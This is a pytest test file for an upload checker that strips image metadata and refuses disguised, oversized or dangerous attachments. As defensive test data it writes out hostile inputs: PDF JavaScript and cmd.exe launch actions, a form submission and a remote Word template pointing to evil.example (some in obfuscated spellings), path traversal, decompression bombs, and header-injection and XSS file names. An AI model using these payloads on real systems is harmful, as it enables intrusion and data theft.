"""What a file really is: what is taken, what is kept of it, and what is refused in words."""

from __future__ import annotations

import io
import time
import zipfile
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image, ImageFile
from PIL.PngImagePlugin import PngInfo

from alliance.kernel.attachments import checking
from alliance.kernel.attachments.office_files import MOST_PARTS
from alliance.kernel.errors import Invalid
from tests.kernel.paper_steps import excel_file, opening, pdf, picture, with_button, with_part, word_file


def refusal(name: str, content: bytes) -> str:
    with pytest.raises(Invalid) as refused:
        checking.checked(name, content)
    assert refused.value.remedy
    return refused.value.reason + refused.value.remedy


@pytest.mark.parametrize(
    ("name", "content", "media_type"),
    [
        ("选举现场.jpg", picture(), "image/jpeg"),
        ("选举现场.JPEG", picture(), "image/jpeg"),
        ("公示.png", picture("PNG"), "image/png"),
        ("公示.webp", picture("WEBP"), "image/webp"),
        ("决议.pdf", pdf(), "application/pdf"),
        ("办法.docx", word_file(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        ("名册.xlsx", excel_file(), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ],
)
def test_what_is_what_it_says_is_taken(name: str, content: bytes, media_type: str) -> None:
    checked = checking.checked(name, content)
    assert checked.media_type == media_type
    if media_type.startswith("image/"):
        assert Image.open(io.BytesIO(checked.content)).size == (60, 40)
    else:
        assert checked.content == content


def test_a_picture_keeps_neither_place_nor_device_nor_comment() -> None:
    exif = Image.Exif()
    exif[0x010F] = "SecretPhone"
    exif.get_ifd(0x8825)[1] = "N"
    content = picture(exif=exif, comment=b"SecretComment") + b"PK\x03\x04SecretTail"
    assert b"SecretPhone" in content
    kept = checking.checked("a.jpg", content).content
    assert b"Secret" not in kept
    assert not Image.open(io.BytesIO(kept)).getexif()


def test_a_png_loses_its_hidden_text() -> None:
    text = PngInfo()
    text.add_text("Comment", "SecretText")
    kept = checking.checked("a.png", picture("PNG", pnginfo=text) + b"<script>Secret</script>").content
    assert b"Secret" not in kept


def test_a_picture_taken_sideways_is_turned_upright() -> None:
    exif = Image.Exif()
    exif[0x0112] = 6
    kept = checking.checked("a.jpg", picture(exif=exif)).content
    assert Image.open(io.BytesIO(kept)).size == (40, 60)


def test_a_telephone_s_picture_with_a_second_one_behind_is_taken() -> None:
    both = io.BytesIO()
    first, second = (Image.new("RGB", (60, 40), colour) for colour in ("red", "blue"))
    first.save(both, "MPO", save_all=True, append_images=[second])
    kept = checking.checked("a.jpg", both.getvalue()).content
    assert Image.open(io.BytesIO(kept)).getpixel((5, 5))[0] > 200
    assert getattr(Image.open(io.BytesIO(kept)), "n_frames", 1) == 1


def png_of(width: int, height: int) -> bytes:
    """The head of a picture of any size, and a few bytes that claim to be the rest."""
    head = b"IHDR" + width.to_bytes(4, "big") + height.to_bytes(4, "big") + b"\x08\x02\x00\x00\x00"
    data = b"IDAT" + zlib.compress(b"\x00" * 100_000)
    chunks = [(len(part) - 4).to_bytes(4, "big") + part + zlib.crc32(part).to_bytes(4, "big") for part in (head, data)]
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks) + b"\x00\x00\x00\x00IEND\xaeB`\x82"


@pytest.mark.parametrize("side", [8_000, 60_000])
def test_a_picture_that_would_fill_the_memory_is_not_opened(side: int) -> None:
    began = time.process_time()
    said = refusal("a.png", png_of(side, side))
    assert time.process_time() - began < 1
    assert "万像素" in said or "打不开" in said


def test_a_cut_off_picture_and_a_moving_one_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)  # as WeasyPrint sets it for the whole process
    for format_, ending in (("JPEG", "jpg"), ("PNG", "png"), ("WEBP", "webp")):
        whole = picture(format_, size=(400, 400))
        for cut in (whole[:-20], whole[: len(whole) // 2]):
            assert "打不开" in refusal(f"a.{ending}", cut)
    frames = [Image.new("RGB", (9, 9), colour) for colour in ("red", "blue")]
    moving = io.BytesIO()
    frames[0].save(moving, "WEBP", save_all=True, append_images=frames[1:])
    assert "会动" in refusal("a.webp", moving.getvalue())


@pytest.mark.parametrize(
    ("name", "content", "says", "way_out"),
    [
        ("照片.jpg", pdf(), "PDF", ".pdf"),
        ("决议.pdf", picture("PNG"), "PNG 图片", ".png"),
        ("办法.docx", excel_file(), "Excel 表格", ".xlsx"),
        ("决议.pdf", b"MZ\x90\x00" + b"\x00" * 200, "不是真的 PDF", "另存"),
        ("照片.png", b"<html><script>alert(1)</script></html>", "不是真的 PNG", "另存"),
        ("办法.docx", b"PK\x03\x04" + b"x" * 200, "不是真的 Word", "另存"),
        ("办法.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "不是真的 Word", "旧版"),
    ],
)
def test_a_file_that_lies_is_refused_with_the_way_out(name: str, content: bytes, says: str, way_out: str) -> None:
    said = refusal(name, content)
    assert says in said
    assert way_out in said


@pytest.mark.parametrize(
    ("name", "way_out"),
    [
        ("a.doc", "另存为 .docx"), ("a.xls", "另存为 .xlsx"), ("a.docm", "不带宏"), ("IMG.HEIC", "兼容性最佳"),
        ("a.ofd", "PDF"), ("a.zip", "解开"), ("决议.pdf.exe", "另存"), ("a", "另存"), ("a.svg", "另存"),
    ],
)  # fmt: skip
def test_other_endings_are_refused_with_the_way_out(name: str, way_out: str) -> None:
    assert way_out in refusal(name, picture())


@pytest.mark.parametrize(
    ("content", "says"),
    [
        (pdf(password="1234"), "密码"),
        (pdf(opening("JavaScript", JS="app.alert(1)")), "脚本"),
        (pdf(opening("Launch", F="cmd.exe")), "会启动别的程序"),
        (pdf(opening("SubmitForm", F="https://evil.example")), "发到别处"),
        (pdf(with_button), "脚本"),
        (pdf(lambda writer: writer.add_attachment("a.exe", b"MZ")), "夹带"),
        (pdf() + b"PK\x03\x04 appended" + b"\x00" * 2000, "没有传完整"),
        (pdf()[:-30], "没有传完整"),
        (b"%PDF-1.7\n" + b"rubbish " * 50 + b"\n%%EOF", "打不开"),
    ],
)
def test_a_pdf_that_is_locked_acts_carries_or_is_broken_is_refused(content: bytes, says: str) -> None:
    assert says in refusal("a.pdf", content)


def test_a_pdf_that_is_a_zip_as_well_is_refused() -> None:
    both = io.BytesIO(pdf())
    with zipfile.ZipFile(both, "a") as package:
        package.writestr("a.exe", b"MZ")
    with zipfile.ZipFile(io.BytesIO(both.getvalue())) as package:
        assert package.namelist() == ["a.exe"]
    assert "没有传完整" in refusal("a.pdf", both.getvalue())


TYPE = '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
TEMPLATE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("content", "says"),
    [
        (with_part(word_file(), "word/vbaProject.bin", b"x", types=TYPE), "带宏"),
        (with_part(word_file(), "word/embeddings/oleObject1.bin", b"x"), "夹带"),
        (with_part(word_file(), "word/activeX/activeX1.bin", b"x"), "夹带"),
        (with_part(word_file(), "word/_rels/settings.xml.rels", TEMPLATE), "模板"),
        (with_part(word_file(), "../../etc/passwd", b"x"), "打不开"),
        (with_part(word_file(), "word/document.xml", b"<!DOCTYPE x [<!ENTITY a 'b'>]><x/>"), "打不开"),
        (with_part(word_file(), "word/media/huge.xml", b"0" * 90_000_000), "大得反常"),
    ],
)
def test_a_package_that_hides_something_is_refused(content: bytes, says: str) -> None:
    assert says in refusal("a.docx", content)


@pytest.mark.parametrize(
    "spelled",
    [
        TEMPLATE.replace('"', "'"),
        TEMPLATE.replace("External", "Ex&#116;ernal"),
        TEMPLATE.replace("attachedTemplate", "attached&#x54;emplate"),
        TEMPLATE.replace("attachedTemplate", "oleObject"),
        TEMPLATE.replace("attachedTemplate", "frame"),
        TEMPLATE.encode("utf-16"),
    ],
)
def test_what_is_fetched_from_outside_is_found_however_it_is_spelled(spelled: str | bytes) -> None:
    content = with_part(word_file(), "word/_rels/settings.xml.rels", spelled)
    assert refusal("办法.docx", content).startswith("这个文件打")


def test_a_plain_link_to_the_web_is_taken() -> None:
    link = TEMPLATE.replace("attachedTemplate", "hyperlink")
    assert checking.checked("办法.docx", with_part(word_file(), "word/_rels/footnotes.xml.rels", link)).content


@pytest.mark.parametrize(
    ("content", "says"),
    [
        (
            with_part(
                word_file(),
                "word/other.bin",
                b"x",
                types='<Override PartName="/word/other.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
            ),
            "宏",
        ),
        (with_part(word_file(), "word/embeddings/开票.exe", b"MZ"), "夹带"),
        (with_part(word_file(), "word/late.xml", f"<!--{'x' * 3000}--><!DOCTYPE a><a/>"), "打不开"),
    ],
)
def test_a_package_that_hides_something_under_another_name_is_refused(content: bytes, says: str) -> None:
    assert says in refusal("办法.docx", content)


def test_a_bomb_of_a_workbook_is_refused_before_it_unfolds() -> None:
    bomb = with_part(excel_file(), "xl/worksheets/sheet9.xml", b"\x00" * 200_000_000)
    assert len(bomb) < 1_000_000
    began = time.process_time()
    assert "大得反常" in refusal("a.xlsx", bomb)
    assert time.process_time() - began < 1


def test_a_package_of_too_many_parts_is_refused() -> None:
    written = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(word_file())) as old, zipfile.ZipFile(written, "w") as new:
        for part in old.infolist():
            new.writestr(part.filename, old.read(part))
        for number in range(MOST_PARTS):
            new.writestr(f"word/{number}", b"")
    assert "大得反常" in refusal("a.docx", written.getvalue())


@pytest.mark.parametrize(
    ("given_name", "clean"),
    [
        ("..\\..\\C:\\决议.PDF", "决议.pdf"),
        ("/etc/passwd/照片 1.JPG", "照片 1.jpg"),
        ("发票\u202egpj.exe", "发票 gpj.exe"),
        ("a\r\nSet-Cookie: x.pdf", "a Set-Cookie_ x.pdf"),
        (".pdf", "附件.pdf"),
        ("长" * 300 + ".pdf", "长" * 116 + ".pdf"),
        ('<img src=x>".png', "_img src=x__.png"),
    ],
)
def test_names_are_cleaned(given_name: str, clean: str) -> None:
    assert checking.clean_name(given_name) == clean


@given(st.text(max_size=400))
def test_a_clean_name_stays_clean_whatever_it_was(name: str) -> None:
    clean = checking.clean_name(name)
    assert len(clean) <= checking.NAME_MOST
    assert "/" not in clean
    assert "\\" not in clean
    assert clean.isprintable()
    assert checking.clean_name(clean) == clean


@given(st.binary(max_size=2000), st.sampled_from(["jpg", "png", "webp", "pdf", "docx", "xlsx"]), st.booleans())
def test_no_bytes_make_the_check_fall(content: bytes, ending: str, with_head: bool) -> None:  # noqa: FBT001
    heads = {"jpg": b"\xff\xd8\xff", "png": b"\x89PNG\r\n\x1a\n", "pdf": b"%PDF-1.4\n", "docx": b"PK\x03\x04"}
    head = heads.get(ending, b"") if with_head else b""
    tail = b"\n%%EOF" if ending == "pdf" else b""
    with pytest.raises(Invalid):
        checking.checked(f"a.{ending}", head + content + tail)


def test_what_is_too_large_or_empty_is_refused_before_it_is_opened() -> None:
    with pytest.raises(Invalid, match="最大 1 MB"):
        checking.read(io.BytesIO(b"0" * (1024 * 1024 + 1)), 1024 * 1024)
    with pytest.raises(Invalid, match="空的"):
        checking.read(io.BytesIO(b""), 10)
